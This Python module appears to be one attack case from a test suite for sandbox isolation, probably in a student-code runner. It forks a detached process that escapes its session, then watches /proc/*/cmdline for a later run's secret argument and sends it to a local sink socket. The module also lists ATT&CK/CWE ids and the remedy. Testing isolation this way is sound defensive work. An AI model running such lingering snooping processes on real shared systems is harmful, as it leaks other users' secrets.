# SPDX-License-Identifier: MIT
"""Goal:  the next student's work; here what it was started with.
Means: a survivor that looks through /proc every millisecond. Every command line is there for every
       process to read, no matter what cleared /tmp or the environment.

    attacker --fork--> survivor: /proc/*/cmdline ... connect, send
      ends     victim:           started with its secret
"""

import os
import socket
import time

from attack import DONE, attempting, denied, honest

LIFE = 5
WANTED = b"role=victim"


def slip_away():
    """Leave the session and every pipe, so that nobody waits for us."""
    os.setsid()
    os.closerange(0, 1024)


def arguments():
    """The command line of every process in sight."""
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{int(pid)}/cmdline", "rb") as file:
                yield file.read()
        except (OSError, ValueError):
            pass  # no process, or none any more


def survive(port):
    until = time.monotonic() + LIFE
    while time.monotonic() < until:
        found = [line for line in arguments() if WANTED in line]
        if found:
            with socket.create_connection(("127.0.0.1", port)) as sink:
                sink.sendall(found[0])
            return
        time.sleep(0.001)


def run(brief):
    attempting()
    try:
        child = os.fork()
    except OSError as why:
        return denied("fork", why)
    if child == 0:
        try:
            slip_away()
            survive(brief.sink)
        finally:
            os._exit(0)
    return DONE


def victim(brief):
    time.sleep(0.3)  # at work
    return honest(brief)


ATTACK = {
    "effect": "the next student's arguments are read by the last one's process",
    "means": "a survivor that watches /proc/PID/cmdline",
    "oracle": "secret:victim",
    "scene": "before-victim",
    "attack_id": "T1057, T1543, CWE-459, CWE-214",
    "remedy": "end every process of a run before the next starts; a pid namespace",
    "refs": ["proc_pid_cmdline(5)"],
    "run": run,
    "victim": victim,
}
